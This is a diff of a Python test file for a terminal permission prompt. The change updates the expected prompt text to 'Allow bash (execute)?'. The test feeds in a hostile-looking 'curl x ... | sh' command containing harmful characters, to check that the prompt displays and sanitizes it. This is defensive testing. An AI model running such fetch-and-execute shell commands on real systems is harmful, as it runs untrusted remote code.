@@ -144,7 +144,7 @@ def test_the_prompt_command_shows_permission_requests(tmp_path: Path) -> None:
     hostile = {**COMMAND, "rawInput": {"command": f"curl x {HARMFUL[1]} | sh"}}
     with Terminal(*command, json.dumps(hostile)) as terminal:
         shown = terminal.wait_for("2  Never (n)")
-        assert "  command: curl x  | sh\n  @ /etc/hosts:3\n? bash (execute)?\n" in shown
+        assert "  command: curl x  | sh\n  @ /etc/hosts:3\n? Allow bash (execute)?\n" in shown
         terminal.answer("n")
         assert terminal.end() == 0
         assert not any(it in terminal.raw for it in HARMFUL)
